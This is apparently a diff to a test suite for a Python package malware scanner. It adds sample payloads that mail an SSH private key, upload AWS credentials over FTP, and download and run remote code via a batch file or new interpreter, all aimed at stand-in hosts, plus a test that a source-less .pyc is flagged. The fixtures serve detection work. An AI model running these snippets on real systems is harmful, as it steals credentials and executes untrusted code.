@@ -301,6 +301,27 @@ AT_IMPORT = {
         f"import codecs, os\ndef find(name):\n    os.system({COMMAND})\ncodecs.register(find)\n"
         f"'x'.encode('nope')\n"
     ),
+    # stealers that leave by mail or FTP, droppers that start a script they wrote, and a
+    # download handed to a new interpreter instead of exec
+    "key mailed": (
+        "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
+        "m.set_content(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
+        "smtplib.SMTP_SSL('smtp.x.invalid', 465).send_message(m, 'a@x.invalid', 'b@x.invalid')\n"
+    ),
+    "key uploaded over FTP": (
+        "import ftplib, os\nf = ftplib.FTP('203.0.113.9', 'u', 'p')\n"
+        "f.storbinary('STOR k', open(os.path.expanduser('~/.aws/credentials'), 'rb'))\n"
+    ),
+    "batch file written and started": (
+        "import os, tempfile\np = os.path.join(tempfile.gettempdir(), 'r.bat')\n"
+        "open(p, 'w').write('powershell -c \"iwr http://x.invalid/a.exe -OutFile a.exe; ./a.exe\"')\n"
+        "os.startfile(p)\n"
+    ),
+    "download run by a new interpreter": (
+        "import subprocess, sys, urllib.request\n"
+        "code = urllib.request.urlopen('https://x.invalid/s.py').read().decode()\n"
+        "subprocess.Popen([sys.executable, '-c', code])\n"
+    ),
 }
 
 
@@ -464,3 +485,18 @@ def test_a_shared_library_that_a_pure_wheel_loads_through_ctypes_stays_data() ->
     result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
     assert result.verdict is Verdict.CLEAN
     assert [(f.rule, f.stage) for f in result.findings] == [("PV-PAY-NATIVE", Stage.DATA)]
+
+
+def test_compiled_code_shipped_without_source_and_imported_is_caught() -> None:
+    """fshec2's shape: the package imports a module that exists only as a ``.pyc``."""
+    body = b"\xe3" + b"".join(
+        b"\xda" + bytes([len(n)]) + n for n in (b"requests", b"https://x.invalid", b"exec")
+    )
+    files: dict[str, bytes | str] = {
+        "demo/__init__.py": "from . import core\n",
+        "demo/core.pyc": b"\xa7\r\r\n" + bytes(12) + body,
+    }
+    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
+    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+    files["demo/core.py"] = "def f():\n    return 1\n"
+    assert analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result.verdict is Verdict.CLEAN
